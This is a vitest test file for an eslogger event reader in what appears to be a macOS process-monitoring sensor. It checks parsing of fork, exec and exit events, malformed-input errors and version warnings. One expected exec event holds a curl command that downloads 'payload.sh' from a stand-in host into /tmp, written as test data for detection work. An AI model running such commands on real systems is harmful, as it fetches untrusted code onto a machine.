import { createReadStream, readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { EsloggerInputError, newEsloggerReadStats, readEsloggerEvents } from "../../src/sensor/esloggerReader.js";
import type { RawEvent } from "../../src/sensor/rawEvent.js";

const fixtures = new URL("../fixtures/eslogger/", import.meta.url).pathname;

async function read(input: AsyncIterable<string | Uint8Array> | Iterable<string | Uint8Array>, file = "f") {
  const errors: EsloggerInputError[] = [];
  const stats = newEsloggerReadStats();
  const events: RawEvent[] = [];
  for await (const e of readEsloggerEvents(input, { file, stats, onError: (err) => errors.push(err) })) events.push(e);
  return { events, errors, stats };
}

describe("readEsloggerEvents", () => {
  it("reads a JSON-lines capture: events in order, other types counted", async () => {
    const { events, errors, stats } = await read(createReadStream(fixtures + "v6-session.jsonl"));
    expect(events.map((e) => `${e.kind}:${e.pid}`)).toEqual(["fork:4101", "exec:4101", "exit:4101", "fork:4102", "exec:4102", "exit:4102"]);
    expect(errors).toEqual([]);
    expect(stats).toMatchObject({ objects: 7, events: 6, skipped: { open: 1 }, errors: 0 });
  });

  it("reads pretty-printed concatenated messages, even split into 1-byte chunks", async () => {
    const bytes = readFileSync(fixtures + "v11-pretty.json");
    const chunks = Array.from(bytes, (b) => new Uint8Array([b]));
    const { events, errors } = await read(chunks);
    expect(errors).toEqual([]);
    expect(events.map((e) => e.kind)).toEqual(["fork", "exec"]);
    expect(events[1].args).toEqual(["curl", "-fsSL", "https://example.invalid/payload.sh", "-o", "/tmp/p.sh"]);
  });

  it("reports each malformed object with file, line and column (and field) and keeps the rest", async () => {
    const { events, errors, stats } = await read(createReadStream(fixtures + "malformed.jsonl"), "malformed.jsonl");
    expect(events.map((e) => `${e.kind}:${e.pid}`)).toEqual(["fork:4101", "exec:4101", "exit:4101"]);
    expect(errors.map((e) => [e.line, e.field])).toEqual([
      [2, undefined],
      [3, undefined],
      [4, "event.exec.target.audit_token.pid"],
    ]);
    expect(errors[0].message).toMatch(/^malformed\.jsonl:2:\d+: /);
    expect(errors[1].message).toMatch(/^malformed\.jsonl:3:\d+: invalid JSON/);
    expect(errors[1].column).toBe(readFileSync(fixtures + "malformed.jsonl", "utf8").split("\n")[2].indexOf(",,") + 2);
    expect(errors[2].message).toBe("malformed.jsonl:4:1: expected an integer, got the string \"4101\" (field event.exec.target.audit_token.pid)");
    expect(stats.errors).toBe(3);
  });

  it("warns once per newer message version and still reads it", async () => {
    const line = readFileSync(fixtures + "v6-session.jsonl", "utf8").split("\n")[1].replace('"version":6', '"version":14');
    const seen: number[] = [];
    const events: RawEvent[] = [];
    for await (const e of readEsloggerEvents([line, "\n", line], { onNewerVersion: (v) => seen.push(v) })) events.push(e);
    expect(events).toHaveLength(2);
    expect(seen).toEqual([14]);
  });
});
